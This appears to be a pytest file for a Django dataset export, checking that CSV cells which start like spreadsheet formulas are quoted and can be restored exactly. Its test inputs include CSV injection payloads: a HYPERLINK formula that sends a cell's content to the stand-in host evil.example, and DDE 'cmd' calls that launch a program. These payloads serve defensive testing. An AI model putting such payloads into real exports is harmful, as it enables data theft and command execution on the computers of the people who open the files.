"""CSV formula injection in the dataset export ( docs/export-format.md,
"CSV and spreadsheets"): text cells of the CSV files that a spreadsheet would run as a
formula get a leading quote; numbers, booleans and JSON text stay as they are; JSON
Lines and Parquet keep the exact text; removing one leading quote gives the text back."""

import csv
import json

import pyarrow.parquet as pq
import pytest
from django.core.management import call_command

from annotate.models import Claim
from annotate.services.batches import create_batch
from annotate.services.ratings import submit_rating
from core.csv_cells import csv_text, original_text
from datasets.exporting import TABLES, DatasetImportError, export_dataset, import_dataset
from datasets.exporting.folder import TableWriter
from tests.datasets.test_export import all_files
from tests.factories import SourceFactory, StudyFactory, SummaryFactory, UserFactory

# OWASP's formula starts, a leading quote (escaped too, so the rule can be undone), and
# texts that only contain the characters later on (left alone).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'tis quoted already",
    "''",
    "=",
]
# A CR inside a cell must be quoted, or readers end the row there and the rest of the
# cell starts a row of its own, formula and all.
HARMLESS = ["plain = text", "a-b", "x@y.example", "", "5 - 3", "é=mc²", "x\r=HYPERLINK(1)", "y\r\n@SUM(1)"]


def test_the_rule_quotes_formula_starts_and_is_undone_exactly():
    for text in FORMULAS:
        assert csv_text(text) == "'" + text
        assert original_text(csv_text(text)) == text
    for text in HARMLESS:
        assert csv_text(text) == text
        assert original_text(csv_text(text)) == text


def test_the_writer_quotes_text_columns_only_and_keeps_json_lines_and_parquet_exact(tmp_path):
    for fmt in ("jsonl", "csv", "parquet"):
        (tmp_path / fmt).mkdir()
    # claims: summary_key, index, uuid, text, start, end, refs (json), verdict, explanation, probability (float)
    texts = FORMULAS + HARMLESS + [None]
    rows = [
        (f"S{i}", -i, str(i), text, i, i + 1, json.dumps(-i - 0.5), text, text, -0.5 if i % 2 else 0.25)
        for i, text in enumerate(texts)
    ]
    writer = TableWriter(tmp_path, "claims", ("jsonl", "csv", "parquet"), chunk=4)
    writer.write_many(rows)
    writer.close()
    names = [name for name, _ in TABLES["claims"]]
    expected = [dict(zip(names, row, strict=True)) for row in rows]

    with (tmp_path / "csv" / "claims.csv").open(encoding="utf-8", newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == names
    for cells, row in zip(read[1:], rows, strict=True):
        text = row[3]
        want_text = "" if text is None else csv_text(text)
        assert cells[3] == cells[7] == cells[8] == want_text
        assert original_text(cells[3]) == ("" if text is None else text)
        # Numbers stay numbers, negative ones included; JSON text is not touched.
        assert cells[1] == str(row[1]) and cells[9] == repr(row[9]) and cells[6] == row[6]
        assert not cells[1].startswith("'") and not cells[6].startswith("'") and not cells[9].startswith("'")
    assert any(c[9] == "-0.5" for c in read[1:]) and any(c[6].startswith("-") for c in read[1:])

    lines = (tmp_path / "jsonl" / "claims.jsonl").read_text(encoding="utf-8").splitlines()
    # JSON Lines hold a JSON column's value (`refs` here a number); Parquet its text.
    assert [json.loads(line) for line in lines] == [row | {"refs": json.loads(row["refs"])} for row in expected]
    assert pq.read_table(tmp_path / "parquet" / "claims.parquet").to_pylist() == expected


@pytest.fixture
def hostile_study(transactional_db):  # the re-import test flushes the database
    """A study whose keys, titles, texts, batch name and answers start like formulas."""
    study = StudyFactory(slug="hostile", title="Hostile study")
    source = SourceFactory(study=study, key="=SRC", title=FORMULAS[0], attribution="@attrib")
    summary = SummaryFactory(source=source, key="-1+1", text=FORMULAS[3], generator="+gen")
    Claim.objects.create(summary=summary, index=0, text="=claim", start=0, end=1, explanation="-why", probability=0.5)
    rater = UserFactory(username="@rater")  # a valid Django username
    batch = create_batch(study=study, name="=batch", raters=[rater], design="k_raters", k=1, seed=-7)
    assignment = batch.assignments.get()
    submit_rating(
        assignment=assignment,
        rater=rater,
        answers={"overall": 2, "failure_modes": ["hallucination"], "feedback": "=1+1"},
        version=assignment.version,
    )
    return study


def csv_table(folder, table) -> list[dict]:
    with (folder / "csv" / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def jsonl_table(folder, table) -> list[dict]:
    with (folder / "jsonl" / f"{table}.jsonl").open(encoding="utf-8") as handle:
        return [json.loads(line) for line in handle]


def as_csv_value(kind: str, value, cell: str):
    """The CSV cell of a non-text value as the export documents each kind (a JSON
    column's cell is its JSON text, compared as the value it reads as)."""
    if kind == "json":
        return None if cell == "" else json.loads(cell)
    if value is None:
        return ""
    if kind == "bool":
        return "true" if value else "false"
    return str(value)


def test_an_exported_study_is_neutralised_in_csv_only_and_the_csv_gives_the_exact_text_back(hostile_study, tmp_path):
    out = export_dataset(study=hostile_study, out_dir=tmp_path / "out").out_dir
    summaries = csv_table(out, "summaries")
    assert summaries[0]["summary_key"] == "'-1+1" and summaries[0]["text"] == "'" + FORMULAS[3]
    assert summaries[0]["generator"] == "'+gen"
    assert csv_table(out, "sources")[0]["title"] == "'" + FORMULAS[0]
    [rating] = [r for r in csv_table(out, "ratings") if r["question"] == "feedback"]
    assert rating["batch"] == "'=batch" and rating["summary_key"] == "'-1+1"
    assert rating["value"] == '"=1+1"'  # JSON text: a string, which no spreadsheet runs
    batches = csv_table(out, "batches")
    assert batches[0]["seed"] == "-7"  # a negative number stays a number

    # Every table: a CSV text cell with one leading quote removed is the JSON Lines text;
    # every other cell is the JSON Lines value as the format documents it.
    quoted = 0
    for table, columns in TABLES.items():
        csv_rows, json_rows = csv_table(out, table), jsonl_table(out, table)
        assert len(csv_rows) == len(json_rows), table
        for cells, row in zip(csv_rows, json_rows, strict=True):
            for name, kind in columns:
                if kind == "str":
                    assert original_text(cells[name]) == (row[name] or ""), (table, name)
                    quoted += cells[name] != (row[name] or "")
                elif kind == "json":
                    assert as_csv_value(kind, row[name], cells[name]) == row[name], (table, name)
                else:
                    assert cells[name] == as_csv_value(kind, row[name], cells[name]), (table, name)
    assert quoted >= 8

    # JSON Lines and Parquet hold the exact text.
    [feedback] = [r for r in jsonl_table(out, "ratings") if r["question"] == "feedback"]
    assert feedback["batch"] == "=batch" and feedback["value"] == "=1+1"
    parquet = pq.read_table(out / "parquet" / "summaries.parquet").to_pylist()
    assert parquet[0]["summary_key"] == "-1+1" and parquet[0]["text"] == FORMULAS[3]

    # The card says so, and the export stays byte-identical.
    card = (out / "README.md").read_text(encoding="utf-8")
    assert "CSV and spreadsheets" in card and "Remove one leading `'`" in card
    again = export_dataset(study=hostile_study, out_dir=tmp_path / "again").out_dir
    assert all_files(out) == all_files(again)


def test_the_card_says_nothing_about_csv_when_there_is_none(hostile_study, tmp_path):
    out = export_dataset(study=hostile_study, out_dir=tmp_path / "out", formats=["jsonl"]).out_dir
    assert "CSV and spreadsheets" not in (out / "README.md").read_text(encoding="utf-8")


def test_the_re_import_reads_the_exact_text_and_never_the_csv(hostile_study, tmp_path):
    out = export_dataset(study=hostile_study, out_dir=tmp_path / "out", formats=["jsonl", "csv"]).out_dir
    csv_only = export_dataset(study=hostile_study, out_dir=tmp_path / "csv-only", formats=["csv"]).out_dir
    call_command("flush", interactive=False)  # public uuids are kept: import into an empty database
    with pytest.raises(DatasetImportError, match="has no jsonl"):
        import_dataset(folder=csv_only)
    imported = import_dataset(folder=out).study
    summary = imported.summaries.get()
    assert (summary.key, summary.text, summary.generator) == ("-1+1", FORMULAS[3], "+gen")
    assert imported.batches.get().name == "=batch"
